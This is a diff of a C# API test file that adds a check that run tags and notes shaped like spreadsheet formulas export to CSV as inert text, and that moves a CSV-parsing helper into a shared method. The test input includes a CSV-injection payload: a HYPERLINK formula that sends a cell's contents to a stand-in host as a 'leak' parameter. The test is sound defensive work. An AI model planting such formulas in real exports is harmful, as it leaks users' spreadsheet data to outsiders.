@@ -204,6 +204,29 @@ public sealed class ResultsApiTests(ResultsApiTests.TwoRuns runs) : IClassFixtur
         (await Client.GetAsync($"/api/runs/{Guid.NewGuid()}/metrics.csv")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
     }
 
+    /// <summary>Issue 25: tags and notes that a spreadsheet would run as formulas export as text; the metrics stay numbers.</summary>
+    [Fact]
+    public async Task Text_cells_that_begin_like_a_formula_export_inert_and_metrics_stay_numbers()
+    {
+        const string note = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")";
+        var patch = await Client.PatchAsync($"/api/runs/{runs.WithoutLrn}", new StringContent(
+            System.Text.Json.JsonSerializer.Serialize(new { tags = new[] { "=1+1", "@SUM(A1)" }, note }), System.Text.Encoding.UTF8, "application/json"));
+        patch.StatusCode.ShouldBe(HttpStatusCode.OK);
+
+        var row = (await ReadCsvWithPythonAsync("/api/runs.csv")).Single(r => r["id"] == runs.WithoutLrn);
+
+        row["tags"].ShouldBe("'=1+1;@SUM(A1)");
+        row["note"].ShouldBe("'" + note);
+        row["experimentName"].ShouldBe("no lrn");
+        row["status"].ShouldBe("Succeeded");
+        foreach (var metric in new[] { "trainLoss", "validationTop1Error", "learningRate", "evaluationTop1Error" })
+        {
+            double.TryParse(row[metric], System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _).ShouldBeTrue(metric);
+        }
+
+        (await Client.GetJsonAsync($"/api/runs/{runs.WithoutLrn}"))["run"]!["note"]!.GetValue<string>().ShouldBe(note, "stored as written");
+    }
+
     [Fact]
     public async Task Tags_and_notes_are_set_with_patch_and_searchable()
     {
@@ -243,27 +266,5 @@ public sealed class ResultsApiTests(ResultsApiTests.TwoRuns runs) : IClassFixtur
         Codes("/api/runs/{runId}/metrics.csv", "get").ShouldBe(["200", "404"], ignoreOrder: true);
     }
 
-    /// <summary>Downloads a CSV and parses it with Python's csv module, the way a reader of the file would.</summary>
-    private async Task<List<Dictionary<string, string>>> ReadCsvWithPythonAsync(string url)
-    {
-        var response = await Client.GetAsync(url);
-        response.StatusCode.ShouldBe(HttpStatusCode.OK);
-        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
-        var file = Path.Combine(runs.Factory.DataDirectory, $"{Guid.NewGuid():N}.csv");
-        await File.WriteAllBytesAsync(file, await response.Content.ReadAsByteArrayAsync());
-
-        var python = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(
-            "/usr/bin/python3", ["-c", "import csv, json, sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))", file])
-        {
-            RedirectStandardOutput = true,
-            RedirectStandardError = true,
-        })!;
-        var output = await python.StandardOutput.ReadToEndAsync();
-        var error = await python.StandardError.ReadToEndAsync();
-        await python.WaitForExitAsync();
-        python.ExitCode.ShouldBe(0, error);
-        return JsonNode.Parse(output)!.AsArray()
-            .Select(row => row!.AsObject().ToDictionary(p => p.Key, p => p.Value!.GetValue<string>()))
-            .ToList();
-    }
+    private Task<List<Dictionary<string, string>>> ReadCsvWithPythonAsync(string url) => Client.ReadCsvWithPythonAsync(url, runs.Factory.DataDirectory);
 }
